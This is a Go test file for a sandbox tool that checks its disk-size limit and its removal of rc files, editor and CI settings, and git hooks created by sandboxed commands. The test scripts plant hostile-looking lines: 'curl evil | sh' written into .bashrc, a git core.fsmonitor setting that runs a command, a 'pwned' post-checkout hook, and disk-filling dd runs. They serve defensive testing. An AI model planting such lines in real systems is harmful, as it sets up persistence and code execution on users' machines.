package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestDiskLimit reproduces the outside test's attack (a sandboxed dd wrote
// 1 GiB in 0.3 s into a workspace capped at 256 MiB), scaled down, and the
// variant that spreads the bytes over many files.
func TestDiskLimit(t *testing.T) {
	requireAvailable(t)
	const limit = 16 << 20
	tests := []struct {
		name         string
		script       string
		wantExceeded bool
		wantNotice   string
		maxLeft      int64
	}{
		{"one file past the limit: dd is stopped at it",
			"dd if=/dev/zero of=big bs=1M count=64 2>&1; echo dd=$?", false, "", limit},
		{"many files past the limit: what was created is removed",
			"for i in 1 2 3 4 5 6; do head -c 6000000 /dev/zero > part$i; done; echo done",
			true, "removed", limit},
		{"under the limit: nothing happens",
			"head -c 1000000 /dev/zero > small; echo done", false, "", limit},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := t.TempDir()
			keep := filepath.Join(ws, "kept-before.txt")
			if err := os.WriteFile(keep, []byte(strings.Repeat("k", 5<<20)), 0o644); err != nil {
				t.Fatal(err)
			}
			res, out, errOut := run(t, Config{Workspace: ws, Disk: limit}, "sh", "-c", tt.script)
			if res.DiskExceeded != tt.wantExceeded {
				t.Errorf("DiskExceeded = %v, want %v (output %q %q)", res.DiskExceeded, tt.wantExceeded, out, errOut)
			}
			if tt.wantNotice != "" && !strings.Contains(errOut, tt.wantNotice) {
				t.Errorf("stderr %q does not say %q", errOut, tt.wantNotice)
			}
			var added int64
			_ = filepath.Walk(ws, func(p string, info os.FileInfo, err error) error {
				if err == nil && info.Mode().IsRegular() && p != keep {
					added += info.Size()
				}
				return nil
			})
			if added > tt.maxLeft {
				t.Errorf("%d bytes left in the workspace, want at most %d", added, tt.maxLeft)
			}
			if b, err := os.ReadFile(keep); err != nil || len(b) != 5<<20 {
				t.Errorf("a file that existed before the command was touched: %v", err)
			}
		})
	}
	// The one-file case: dd is killed by SIGXFSZ (or sees EFBIG) at the limit.
	ws := t.TempDir()
	_, out, _ := run(t, Config{Workspace: ws, Disk: limit}, "sh", "-c", "dd if=/dev/zero of=big bs=1M count=64 2>&1; echo status=$?")
	if strings.Contains(out, "status=0") {
		t.Errorf("dd past the limit succeeded: %q", out)
	}
	if st, err := os.Stat(filepath.Join(ws, "big")); err != nil || st.Size() > limit {
		t.Errorf("big: %v, size %d, want at most %d", err, st.Size(), limit)
	}
}

// TestProtectedPathsCreatedAreRemoved: a command cannot leave behind, for the next step or the
// user's shell, what the host runs or loads later: a new repository (its config runs code), rc
// files, editor and CI settings. Ordinary new files stay.
func TestProtectedPathsCreatedAreRemoved(t *testing.T) {
	requireAvailable(t)
	tests := []struct {
		name          string
		allowGitWrite bool
		script        string
		gone, kept    []string
	}{
		{"rc files and settings", false,
			"echo 'curl evil | sh' > .bashrc; mkdir -p .vscode sub/.github/workflows; echo '{}' > .vscode/tasks.json; echo x > sub/.github/workflows/ci.yml; echo x > .envrc; echo ok > notes.txt",
			[]string{".bashrc", ".vscode", "sub/.github/workflows", ".envrc"}, []string{"notes.txt", "sub/.github"}},
		{"a new repository in a subdirectory", false,
			"mkdir -p sub && cd sub && git init -q && git config core.fsmonitor 'touch /tmp/pwned' && echo ok > file",
			[]string{"sub/.git"}, []string{"sub/file"}},
		{"with --allow-git-write: a submodule's hooks", true,
			"mkdir -p .git/modules/m/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/modules/m/hooks/post-checkout && echo x > .git/objects/written",
			[]string{".git/modules/m/hooks"}, []string{".git/objects/written", ".git/modules/m"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := t.TempDir()
			if tt.allowGitWrite {
				hostGit(t, ws, "init", "-q")
			}
			res, out, errOut := run(t, Config{Workspace: ws, AllowGitWrite: tt.allowGitWrite}, "sh", "-c", tt.script)
			if res.ExitCode != 0 {
				t.Fatalf("exit %d: %s %s", res.ExitCode, out, errOut)
			}
			for _, p := range tt.gone {
				if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
					t.Errorf("%s is still in the workspace", p)
				}
			}
			if !strings.Contains(errOut, "paddock: removed ") || !strings.Contains(errOut, "protected path") {
				t.Errorf("no notice of the removal in stderr %q", errOut)
			}
			for _, p := range tt.kept {
				if _, err := os.Lstat(filepath.Join(ws, p)); err != nil {
					t.Errorf("%s was removed too: %v", p, err)
				}
			}
		})
	}
}
